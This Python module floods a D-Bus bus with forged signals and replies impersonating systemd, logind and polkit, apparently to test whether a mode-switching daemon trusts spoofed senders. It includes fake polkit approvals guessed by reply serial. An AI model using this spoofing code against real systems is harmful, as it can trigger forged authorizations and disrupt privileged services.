"""Signals and replies in the name of others, which anybody may put on a bus."""

import time

from jeepney import HeaderFields, MessageType

from . import bus, people
from .bus import Client

SYSTEMD = "org.freedesktop.systemd1"
LOGIND = "org.freedesktop.login1"
POLKIT = "org.freedesktop.PolicyKit1"
SYSTEMD_PATH = "/org/freedesktop/systemd1"
LOGIND_PATH = "/org/freedesktop/login1"

# Jobs that systemd will make next: their numbers count up.
JOBS_AHEAD = 40
# Calls of the daemon's that may wait for an answer.
REPLIES = range(1, 200)
PAUSE = 0.02


def forge(victim):
    """Forges everything, over and over, until told to end. `victim` is the bus name of a hold's owner."""
    sent = 0
    with Client() as client:
        service = client.owner(bus.SERVICE)
        owners = {name: client.owner(name) for name in (SYSTEMD, LOGIND, POLKIT)}
        while not people.told_to_end():
            for signal in signals(victim, service, owners, next_job(client)):
                for destination in ("", service):
                    client.send(bus.message(MessageType.signal, *signal, destination=destination))
                    sent += 1
            for serial in REPLIES:
                client.send(reply(service, serial))
                sent += 1
            time.sleep(PAUSE)
    people.say({"sent": sent})


def next_job(client):
    """Somewhere near the number of systemd's next job."""
    return client.property(
        "NInstalledJobs", path=SYSTEMD_PATH, interface=SYSTEMD + ".Manager", destination=SYSTEMD
    )


def signals(victim, service, owners, job):
    """(path, interface, member, signature, body) of each."""
    driver = ("/org/freedesktop/DBus", bus.DRIVER)
    for name, owner in [
        *owners.items(),
        (victim, victim),
        (service, service),
        (bus.SERVICE, service),
    ]:
        yield *driver, "NameOwnerChanged", "sss", (name, owner, "")
        yield *driver, "NameOwnerChanged", "sss", (name, owner, victim)
    yield *driver, "NameLost", "s", (bus.SERVICE,)
    manager = (SYSTEMD_PATH, SYSTEMD + ".Manager")
    for number in range(job, job + JOBS_AHEAD):
        path = f"{SYSTEMD_PATH}/job/{number}"
        for unit in ("studio-local-policy.service", "audio-priority.service", "desktop.target"):
            yield *manager, "JobRemoved", "uoss", (number, path, unit, "failed")
    yield *manager, "Reloading", "b", (True,)
    yield *manager, "UnitRemoved", "so", ("desktop.target", SYSTEMD_PATH + "/unit/desktop_2etarget")
    for unit in (
        "desktop_2etarget",
        "compute_2etarget",
        "vllm_2eservice",
        "display_2dmanager_2eservice",
    ):
        for state in ("active", "failed", "inactive"):
            yield (
                f"{SYSTEMD_PATH}/unit/{unit}",
                bus.PROPERTIES,
                "PropertiesChanged",
                "sa{sv}as",
                (SYSTEMD + ".Unit", {"ActiveState": ("s", state)}, []),
            )
    logind = (LOGIND_PATH, LOGIND + ".Manager")
    yield *logind, "PrepareForShutdown", "b", (True,)
    yield *logind, "SessionRemoved", "so", ("c1", LOGIND_PATH + "/session/c1")
    yield *logind, "SessionNew", "so", ("c99", LOGIND_PATH + "/session/c99")
    yield f"/org/freedesktop/{POLKIT[16:]}/Authority", POLKIT + ".Authority", "Changed", "", ()
    own = (bus.ROOT, bus.SERVICE)
    yield *own, "JobRemoved", "uoss", (1, bus.ROOT + "/job/1", "compute", "committed")
    yield *own, "PrepareForTransition", "bssa{sv}", (True, "desktop", "compute", {})
    yield (
        bus.ROOT,
        bus.PROPERTIES,
        "PropertiesChanged",
        "sa{sv}as",
        (bus.SERVICE, {"CurrentMode": ("s", "compute"), "Holds": ("aa{sv}", [])}, []),
    )


def reply(service, serial):
    """An answer to a call of the daemon's that it sent to somebody else: polkit's yes, for one."""
    answer = bus.message(
        MessageType.method_return,
        "/",
        "",
        "x",
        "(bba{ss})",
        ((True, False, {}),),
        destination=service,
    )
    del answer.header.fields[HeaderFields.path], answer.header.fields[HeaderFields.member]
    answer.header.fields[HeaderFields.reply_serial] = serial
    return answer
